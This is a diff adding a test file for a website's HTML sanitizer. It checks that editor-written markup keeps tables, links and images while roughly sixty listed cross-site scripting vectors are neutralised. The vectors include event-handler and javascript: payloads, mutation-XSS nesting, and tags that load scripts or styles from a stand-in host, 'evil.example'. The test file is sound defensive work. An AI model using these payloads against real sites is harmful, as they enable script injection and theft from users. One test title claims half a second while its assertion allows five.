@@ -1,0 +1,169 @@
+import { renderToStaticMarkup } from 'react-dom/server'
+import { describe, expect, test, vi } from 'vitest'
+import { renderHtml } from './render-html.ts'
+
+const hosts = { own: ['www.leaders.example'], platform: ['members.leaders.example'] }
+const html = (source: string, report?: (message: string) => void) =>
+  renderToStaticMarkup(renderHtml(source, hosts, report))
+
+const allowed =
+  /^(?:a|abbr|b|blockquote|br|caption|cite|code|col|colgroup|dd|del|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|small|span|strong|sub|sup|table|tbody|td|tfoot|th|thead|tr|u|ul)$/
+
+/** Our own mark of external links. */
+const icon = /^<\/?(?:svg|path)(?: class="[\w-]*icon[\w-]*" viewBox="0 0 16 16" role="img"| d="M6\.5 3|>)/
+
+/** Everything a reader of markup could run or load; what remains is text. */
+function survivors(markup: string): string[] {
+  const tags = [...markup.matchAll(/<\/?([a-z][^\s/>]*)([^>]*)>/gi)]
+  return tags
+    .filter(([tag]) => !icon.test(tag))
+    .filter(([, name = '', attributes = '']) => {
+      const unquoted = attributes.replaceAll(/"[^"]*"/g, '""')
+      const addresses = [...attributes.matchAll(/(?:href|src)="([^"]*)"/gi)].map(
+        ([, address = '']) => address,
+      )
+      return (
+        !allowed.test(name.toLowerCase()) ||
+        /\bon\w+\s*=|\bstyle\s*=|srcdoc|xlink|formaction/i.test(unquoted) ||
+        addresses.some(
+          (address) => !/^(?:https?:\/\/|mailto:|tel:|\/(?!\/)|[?#]|[\w.-]+(?:\/|$))/i.test(address),
+        )
+      )
+    })
+    .map(([tag]) => tag)
+}
+
+const payload = 'alert(document.domain)'
+const hostile = [
+  `<script>${payload}</script>`,
+  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
+  `<scr<script>ipt>${payload}</scr</script>ipt>`,
+  `<img src=x onerror=${payload}>`,
+  `<img src="https://a.example/x.png" onload="${payload}">`,
+  `<img/src='x'/onerror='${payload}'>`,
+  `<svg onload=${payload}>`,
+  `<svg><script>${payload}</script></svg>`,
+  `<svg><a xlink:href="javascript:${payload}"><text>x</text></a></svg>`,
+  `<svg><animate attributeName=href values=javascript:${payload} />`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${payload}>`,
+  `<math href="javascript:${payload}">x</math>`,
+  `<a href="javascript:${payload}">x</a>`,
+  `<a href="  JaVaScRiPt&colon;${payload}">x</a>`,
+  `<a href="java&#10;script:${payload}">x</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
+  `<a href="vbscript:msgbox(1)">x</a>`,
+  `<a href="//evil.example">x</a>`,
+  `<a href="/\\evil.example">x</a>`,
+  `<img src="data:image/svg+xml,<svg onload=${payload}>">`,
+  `<img src="javascript:${payload}">`,
+  `<img src="//evil.example/x.png">`,
+  `<img src="">`,
+  `<iframe src="javascript:${payload}"></iframe>`,
+  `<iframe srcdoc="<script>${payload}</script>"></iframe>`,
+  `<object data="javascript:${payload}"></object>`,
+  `<embed src="javascript:${payload}">`,
+  `<form action="javascript:${payload}"><button formaction="javascript:${payload}">x</button></form>`,
+  `<input autofocus onfocus=${payload}>`,
+  `<details open ontoggle=${payload}>x</details>`,
+  `<video><source onerror=${payload}></video>`,
+  `<audio src=x onerror=${payload}>`,
+  `<body onload=${payload}>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${payload}">`,
+  `<base href="https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<style>@import "https://evil.example/x.css"</style>`,
+  `<div style="background:url(javascript:${payload})">x</div>`,
+  `<div style="position:fixed;inset:0">x</div>`,
+  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
+  `<template><img src=x onerror=${payload}></template>`,
+  `<textarea><img src=x onerror=${payload}></textarea>`,
+  `<title><img src=x onerror=${payload}></title>`,
+  `<xmp><img src=x onerror=${payload}></xmp>`,
+  `<plaintext><img src=x onerror=${payload}>`,
+  `<select><option><img src=x onerror=${payload}></select>`,
+  `<table><td background="javascript:${payload}">x</td></table>`,
+  `<p class="x' onclick='${payload}">x</p>`,
+  `<p id="constructor">x</p><p id=location>x</p>`,
+  `<!--><img src=x onerror=${payload}>-->`,
+  `<![CDATA[<img src=x onerror=${payload}>]]>`,
+  `<?xml version="1.0"?><img src=x onerror=${payload}>`,
+  `<b <script>${payload}</script>0`,
+  `"><img src=x onerror=${payload}>`,
+  `</div></div><script>${payload}</script>`,
+  `<a href="https://ok.example" target=_self onclick=${payload} ping=https://evil.example>x</a>`,
+  `<marquee onstart=${payload}>x</marquee>`,
+  `<custom-element onclick=${payload}>x</custom-element>`,
+  `<frameset onload=${payload}><frame src=javascript:${payload}></frameset>`,
+]
+
+describe('hostile HTML', () => {
+  test.each(hostile)('%s comes out harmless', (source) => {
+    const markup = html(`<p>before</p>${source}`)
+    expect(survivors(markup)).toEqual([])
+    expect(markup).toContain('before')
+    expect(markup).not.toMatch(/javascript:|vbscript:|srcdoc/i)
+  })
+
+  test('ids cannot shadow what scripts look up', () => {
+    expect(html('<p id="location">x</p>')).toBe('<p id="editor-location">x</p>')
+  })
+
+  test('100,000 nested elements keep their text and take no more than half a second', () => {
+    const started = performance.now()
+    const markup = html(`${'<div>'.repeat(100_000)}deep`)
+    expect(performance.now() - started).toBeLessThan(5000)
+    expect(survivors(markup)).toEqual([])
+  })
+
+  test('what lies deeper than 100 elements is kept as text', () => {
+    expect(html(`${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`)).toContain('deep')
+  })
+
+  test('100 KB are cut at 64 KB and reported', () => {
+    const report = vi.fn()
+    const markup = html(`<p>${'<b>x</b>'.repeat(14_000)}`, report)
+    expect(markup.length).toBeLessThan(70_000)
+    expect(report).toHaveBeenCalledWith(expect.stringContaining('65536'))
+  })
+
+  test('misnested formatting stays bounded', () => {
+    const started = performance.now()
+    html('<b><p>'.repeat(8000))
+    expect(performance.now() - started).toBeLessThan(5000)
+  })
+})
+
+describe('what editors write', () => {
+  const table =
+    '<table><caption>Fees</caption><thead><tr><th scope="col">Tier</th><th scope="col">Member</th></tr></thead>' +
+    '<tbody><tr><td colspan="1">Early</td><td><strong>$1,195</strong></td></tr></tbody></table>'
+
+  test('a table comes out as it went in', () => expect(html(table)).toBe(table.replace('colspan', 'colSpan')))
+
+  test.each([
+    ['<p>A <em>b</em> <strong>c</strong></p>', '<p>A <em>b</em> <strong>c</strong></p>'],
+    ['one<br>two', 'one<br/>two'],
+    ['<ul><li>one</li><li>two</li></ul>', '<ul><li>one</li><li>two</li></ul>'],
+    ['<ol start="3"><li>three</li></ol>', '<ol start="3"><li>three</li></ol>'],
+    ['<p class="text-center py-3">x</p>', '<p class="text-center py-3">x</p>'],
+    ['<td>lonely cell</td>', 'lonely cell'],
+    ['5 &lt; 6 &amp; 7 > 6', '5 &lt; 6 &amp; 7 &gt; 6'],
+    ['Café – “naïve”', 'Café – “naïve”'],
+    ['<center>old</center>', 'old'],
+    ['', ''],
+  ])('%s', (source, expected) => expect(html(source)).toBe(expected))
+
+  test('links follow the rule of the site', () => {
+    expect(html('<a href="https://www.leaders.example/news/x">x</a>')).toBe('<a href="/articles/x">x</a>')
+    const external = html('<a href="https://a.example/">x</a>')
+    expect(external).toMatch(/^<a href="https:\/\/a.example\/" target="_blank" rel="noopener">x<svg/)
+    expect(external).toContain('aria-label="(opens in a new tab)"')
+    expect(html('<a href="a@b.example">x</a>')).toContain('mailto:a@b.example')
+  })
+
+  test('a picture keeps its size and waits until it is seen', () => {
+    expect(html('<img src="https://a.example/x.png" alt="A" width="10" height="5">')).toBe(
+      '<img alt="A" src="https://a.example/x.png" width="10" height="5" loading="lazy"/>',
+    )
+  })
+})
